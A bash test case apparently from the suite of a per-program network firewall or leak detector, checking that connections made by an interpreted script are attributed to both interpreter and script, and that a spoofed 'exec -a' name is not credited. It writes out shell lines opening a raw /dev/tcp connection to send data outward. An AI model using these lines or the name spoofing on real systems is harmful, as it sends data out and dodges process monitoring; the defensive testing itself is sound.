# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash source=/dev/null disable=SC2086,SC2016,SC2154,SC2034
# L14: a script at an allowed path: its interpreter may not do for others what the script may,
# and interpreter and script are both known.
. /snitch/leak/lib/leak.sh

cp /bin/bash $DIR/interpreter
printf '#!%s\nexec 3<>/dev/tcp/%s/80; echo leak >&3; :\n' $DIR/interpreter $F4 >$DIR/tool
chmod 755 $DIR/tool
leak_begin "allow $DIR/tool any"
way "the script, executed" $DIR/interpreter tcp 80 $DIR/tool
t_seen "both are told" "^OWNER .*exe=$DIR/interpreter .*script=$DIR/tool\$"
way "another script that claims to be it" $DIR/interpreter tcp 80 \
	bash -c "exec -a $DIR/tool $DIR/interpreter -c 'exec 3<>/dev/tcp/$F4/80; echo leak >&3; :' $DIR/tool"
t_seen "no script is told: it was only said" "^OWNER .*exe=$DIR/interpreter .*script=\$"
leak_done
